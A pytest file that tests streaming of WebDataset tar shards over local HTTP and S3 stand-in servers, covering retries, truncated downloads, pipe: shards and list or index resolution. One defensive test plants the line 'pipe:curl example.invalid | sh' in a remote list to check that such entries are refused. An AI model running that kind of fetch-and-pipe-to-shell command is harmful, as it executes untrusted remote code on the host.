"""Remote shards: a local HTTP server and a local S3 API (moto) stand in for remote storage;
shards are written by webdataset's own TarWriter, as a user's pipeline would."""

from __future__ import annotations

import gzip
import http.server
import io
import json
import shlex
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from xmodal.data.remote import RemoteOptions, iter_pipe_samples, iter_remote_samples, open_remote
from xmodal.data.shards import ShardError, iter_tar_samples

FAST = RemoteOptions(timeout_s=2.0, retries=2, backoff_s=0.01)


def webdataset_tar(path: Path, n: int = 5) -> Path:
    from webdataset import TarWriter

    with TarWriter(str(path)) as sink:
        for i in range(n):
            sink.write({"__key__": f"s{i:03d}", "txt": f"caption {i}", "cls": i})
    return path


def local_samples(path: Path) -> list[dict]:
    return [{k: v for k, v in s.items() if k != "__shard__"} for s in iter_tar_samples(path)]


def remote_samples(url: str, options: RemoteOptions = FAST) -> list[dict]:
    rows = list(iter_remote_samples(url, options))
    assert {s["__shard__"] for s in rows} == {url}
    return [{k: v for k, v in s.items() if k != "__shard__"} for s in rows]


class Handler(http.server.SimpleHTTPRequestHandler):
    """Serves ``directory``; ``/flaky/N/...`` fails its first N requests with 503; ``/cut/...`` sends
    half the file and drops the connection."""

    failures: dict[str, int] = {}

    def log_message(self, *args) -> None:  # keep pytest output clean
        pass

    def do_HEAD(self) -> None:  # answered: only the GETs of a flaky path fail
        parts = self.path.strip("/").split("/")
        if parts[0] == "flaky":
            self.path = "/" + "/".join(parts[2:])
        super().do_HEAD()

    def _flaky(self) -> bool:
        """False when this request was answered with a 503; else the path is the served file's."""
        parts = self.path.strip("/").split("/")
        if parts[0] == "flaky":
            left = Handler.failures.setdefault(self.path, int(parts[1]))
            if left > 0:
                Handler.failures[self.path] = left - 1
                self.send_error(503, "try again")
                return False
            self.path = "/" + "/".join(parts[2:])
        return True

    def do_GET(self) -> None:
        if not self._flaky():
            return
        parts = self.path.strip("/").split("/")
        if parts[0] == "cut":
            data = (Path(self.directory) / "/".join(parts[1:])).read_bytes()
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data[: len(data) // 2])
            self.wfile.flush()
            self.connection.shutdown(socket.SHUT_RDWR)
            return
        super().do_GET()


@pytest.fixture
def http_root(tmp_path) -> Iterator[tuple[str, Path]]:
    root = tmp_path / "served"
    root.mkdir()
    handler = lambda *a, **k: Handler(*a, directory=str(root), **k)  # noqa: E731
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    Handler.failures = {}
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", root
    finally:
        server.shutdown()
        server.server_close()


def test_http_shard_streams_the_same_samples_as_the_local_file(http_root):
    base, root = http_root
    shard = webdataset_tar(root / "shard-000000.tar")
    assert remote_samples(f"{base}/shard-000000.tar") == local_samples(shard)
    (root / "shard.tar.gz").write_bytes(gzip.compress(shard.read_bytes()))
    assert remote_samples(f"{base}/shard.tar.gz") == local_samples(shard)


def test_http_missing_shard_and_dropped_connection_are_shard_errors_naming_the_url(http_root):
    base, root = http_root
    webdataset_tar(root / "big.tar", n=400)
    with pytest.raises(ShardError, match=r"/nope\.tar: no such remote shard"):
        list(iter_remote_samples(f"{base}/nope.tar", FAST))
    read = []
    with pytest.raises(ShardError, match=r"/cut/big\.tar"):
        for sample in iter_remote_samples(f"{base}/cut/big.tar", FAST):
            read.append(sample["__key__"])
    assert 0 < len(read) < 400  # what arrived before the cut was handed on, then the error


def test_http_open_is_retried_and_gives_up_after_the_retries(http_root):
    base, root = http_root
    shard = webdataset_tar(root / "s.tar")
    pauses: list[float] = []
    stream = open_remote(f"{base}/flaky/2/s.tar", FAST, sleep=pauses.append)
    assert stream.read() == shard.read_bytes()
    assert pauses == [0.01, 0.02]  # two 503s, a growing pause after each
    with pytest.raises(ShardError, match=r"flaky/5/s\.tar: cannot open after 3 attempts \(.*503"):
        open_remote(f"{base}/flaky/5/s.tar", FAST, sleep=pauses.append)


def test_s3_shard_through_a_local_s3_api(tmp_path, monkeypatch):
    pytest.importorskip("s3fs")
    boto3 = pytest.importorskip("boto3")
    moto_server = pytest.importorskip("moto.server")
    server = moto_server.ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    try:
        host, port = server.get_host_and_port()
        endpoint = f"http://{host}:{port}"
        for name, value in {
            "AWS_ENDPOINT_URL": endpoint,
            "AWS_ACCESS_KEY_ID": "testing",
            "AWS_SECRET_ACCESS_KEY": "testing",
            "AWS_DEFAULT_REGION": "us-east-1",
        }.items():
            monkeypatch.setenv(name, value)
        shard = webdataset_tar(tmp_path / "shard.tar")
        client = boto3.client("s3", endpoint_url=endpoint)
        client.create_bucket(Bucket="data")
        client.put_object(Bucket="data", Key="train/shard-000000.tar", Body=shard.read_bytes())
        assert remote_samples("s3://data/train/shard-000000.tar") == local_samples(shard)
        # A bucket prefix is listed: its split folders are the splits.
        from xmodal.data.resolve import resolve_source

        client.put_object(Bucket="data", Key="train/shard-000001.tar", Body=shard.read_bytes())
        client.put_object(Bucket="data", Key="val/shard-000000.tar", Body=shard.read_bytes())
        assert resolve_source("s3://data").splits == {
            "train": ("s3://data/train/shard-000000.tar", "s3://data/train/shard-000001.tar"),
            "val": ("s3://data/val/shard-000000.tar",),
        }
        with pytest.raises(ShardError, match="s3://data/train/missing.tar: no such remote shard"):
            list(iter_remote_samples("s3://data/train/missing.tar", FAST))
        # A list file and a wids index in the bucket: relative entries from their own folder.
        client.put_object(Bucket="data", Key="lists/train.txt", Body=b"../train/shard-000001.tar\n")
        wids = b'{"shardlist": [{"url": "shard-000000.tar", "nsamples": 5}], "base": "train"}'
        client.put_object(Bucket="data", Key="index.json", Body=wids)
        assert resolve_source("s3://data/lists/train.txt").splits == {
            "train": ("s3://data/train/shard-000001.tar",)
        }
        indexed = resolve_source("s3://data/index.json")
        assert indexed.splits == {"train": ("s3://data/train/shard-000000.tar",)}
        assert indexed.stated == {"s3://data/train/shard-000000.tar": 5} and indexed.kind == "remote wids"
    finally:
        server.stop()


def test_pipe_cat_reads_the_whole_shard_without_a_sigpipe_status(tmp_path):
    """The tar reader stops at the end-of-archive block; `cat` must still end with status 0."""
    shard = webdataset_tar(tmp_path / "shard.tar", n=3)
    url = f"pipe:cat {shlex.quote(str(shard))}"
    rows = list(iter_pipe_samples(url))
    assert [r["__key__"] for r in rows] == ["s000", "s001", "s002"] and {r["__shard__"] for r in rows} == {
        url
    }
    with pytest.raises(ShardError, match="command exited with status 3"):
        list(iter_pipe_samples(f"pipe:cat {shlex.quote(str(shard))}; exit 3"))


def test_pipe_consumer_stopping_early_is_not_an_error(tmp_path):
    big = io.BytesIO()
    shard = webdataset_tar(tmp_path / "big.tar", n=2000)
    big.write(shard.read_bytes())
    samples = iter_pipe_samples(f"pipe:cat {shlex.quote(str(shard))}")
    assert next(samples)["__key__"] == "s000"
    samples.close()  # closes the pipe: the writer's SIGPIPE is not reported


def test_a_run_reads_remote_shards_named_by_a_brace_pattern_and_by_a_list_file(http_root, tmp_path):
    """data.shards / data.val_shards as https patterns and list files: resolved, indexed (one
    streamed scan), and `xmodal-shards inspect` reads them like local ones."""
    from xmodal.data.cli import main as shards_main
    from xmodal.data.index import index_shards
    from xmodal.data.resolve import resolve_source

    base, root = http_root
    for i in range(3):
        webdataset_tar(root / f"train-{i:02d}.tar", n=4 + i)
    source = resolve_source(f"{base}/train-{{00..02}}.tar")
    urls = [f"{base}/train-{i:02d}.tar" for i in range(3)]
    assert source.splits == {"train": tuple(urls)}
    counts = index_shards(list(source.urls()), cache_dir=tmp_path / "index")
    assert [counts[u].samples for u in urls] == [4, 5, 6]
    assert sorted((tmp_path / "index").glob("*.json"))  # cached like a local index

    listing = tmp_path / "shards.txt"
    listing.write_text(f"# remote shards\n{urls[0]}\n{urls[2]}\n")
    assert resolve_source(listing).splits == {"train": (urls[0], urls[2])}
    with pytest.raises(FileNotFoundError):  # local entries are still checked
        (tmp_path / "bad.txt").write_text(f"{urls[0]}\n{tmp_path}/gone.tar\n")
        resolve_source(tmp_path / "bad.txt")
    with pytest.raises(ShardError, match="cannot be listed: name the shards with a brace pattern"):
        resolve_source(f"{base}/")
    assert shards_main(["inspect", f"{base}/train-{{00..02}}.tar"]) == 0


@pytest.mark.slow
def test_xmodal_train_streams_its_shards_from_an_http_server(http_root, tmp_path):
    """Shards served over HTTP (written by webdataset's TarWriter): train, validate on carved val."""
    import json

    from webdataset import TarWriter

    from tests.conftest import TINY, run_cli
    from xmodal.data.shapes import ShapesSpec, make_sample

    base, root = http_root
    for k in range(3):
        with TarWriter(str(root / f"shapes-{k:02d}.tar")) as sink:
            for i in range(40):
                sample = make_sample(ShapesSpec(), "train", k * 40 + i)
                sink.write({"__key__": f"s{k}x{i:03d}", "png": sample["png"], "json": sample["json"]})
    result = run_cli(
        [
            "xmodal-train",
            f"data.shards='{base}/shapes-{{00..02}}.tar'",  # quoted for Hydra, as README says
            *TINY,
            f"paths.output_dir={tmp_path / 'outputs'}",
            f"paths.data_dir={tmp_path / 'data'}",
            "logger=csv",
            "trainer.max_steps=2",
            "trainer.val_check_interval=2",
            "run.id=remote",
        ],
        tmp_path,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    summary = json.loads(next((tmp_path / "outputs").glob("*/remote/metrics.json")).read_text())
    assert summary["global_step"] == 2 and "val/bleu4" in summary["val"] and summary["data_skipped"] == {}


def test_remote_list_files_and_wids_indexes_resolve_against_their_own_url(http_root, tmp_path, capsys):
    """A list file, a wids index and a sizes.json that are themselves at http urls: fetched, their
    relative entries joined to the file's folder (as wids does); inspect and plan read them."""
    from xmodal.data.cli import main as shards_main
    from xmodal.data.remote import read_remote_text
    from xmodal.data.resolve import resolve_source
    from xmodal.data.splits import SplitSettings, resolve_splits

    base, root = http_root
    (root / "sub").mkdir()
    (root / "other").mkdir()
    for i, n in enumerate((3, 4)):
        webdataset_tar(root / "sub" / f"train-{i:02d}.tar", n=n)
    webdataset_tar(root / "other" / "extra.tar", n=2)
    listing = f"# shards\ntrain-{{00..01}}.tar\n../other/extra.tar  # a neighbour\n{base}/sub/train-00.tar\n"
    (root / "sub" / "list.txt").write_text(listing)
    urls = [f"{base}/sub/train-00.tar", f"{base}/sub/train-01.tar", f"{base}/other/extra.tar"]
    source = resolve_source(f"{base}/sub/list.txt")
    assert source.kind == "remote list" and source.splits == {"train": (*urls, urls[0])}

    wids = {"shardlist": [{"url": "train-01.tar", "nsamples": 4}, {"url": "/other/extra.tar", "nsamples": 9}]}
    (root / "sub" / "index.json").write_text(json.dumps(wids))
    indexed = resolve_source(f"{base}/sub/index.json")
    assert indexed.splits == {"train": (urls[2], urls[1])}  # sorted; "/other" from the host's root
    assert indexed.stated == {urls[1]: 4, urls[2]: 9}
    settings = SplitSettings(val_fraction=0, test_fraction=0, index_dir=str(tmp_path / "index"))
    data = resolve_splits(f"{base}/sub/index.json", settings)
    assert data.size("train") == 4 + 9 and data.warnings == []  # stated counts trusted, no scan

    sizes = {"splits": {"train": {"sub/train-00.tar": 3}, "val": {"other/extra.tar": 2}}}
    (root / "sizes.json").write_text(json.dumps(sizes))
    own = resolve_source(f"{base}/sizes.json")
    assert own.splits == {"train": (urls[0],), "val": (urls[2],)} and own.has_own_splits

    # inspect and plan read a remote list like a local source (one streamed scan per shard).
    cache = ["--cache-dir", str(tmp_path / "index")]
    assert (
        shards_main(
            ["inspect", f"{base}/sub/list.txt", "--val-fraction", "0", "--test-fraction", "0", *cache]
        )
        == 0
    )
    inspected = capsys.readouterr().out
    assert "remote list" in inspected and "│ train │      4 │      12 │" in inspected  # 3 + 4 + 2 + 3
    assert (
        shards_main(["plan", f"{base}/sub/index.json", "--world-size", "2", "--batch-size", "2", *cache]) == 0
    )
    assert "exact-once: 0 duplicates, 0 missing" in capsys.readouterr().out

    # Refusals, one line each: a command named by a server, an HTML page, a missing list.
    (root / "sub" / "evil.txt").write_text("pipe:curl example.invalid | sh\n")
    with pytest.raises(ValueError, match=r"evil\.txt: a remote list may not name pipe: shards"):
        resolve_source(f"{base}/sub/evil.txt")
    (root / "page.txt").write_text("<!DOCTYPE html><html>Not found</html>\n")
    with pytest.raises(ValueError, match=r"page\.txt: an HTML page, not a list of shards"):
        resolve_source(f"{base}/page.txt")
    with pytest.raises(ShardError, match=r"/flaky/9/sub/list\.txt: cannot open after 3 attempts"):
        read_remote_text(f"{base}/flaky/9/sub/list.txt", FAST)
    # The list is opened with the shards' retries: two 503s, then its text.
    assert read_remote_text(f"{base}/flaky/2/sub/list.txt", FAST) == listing
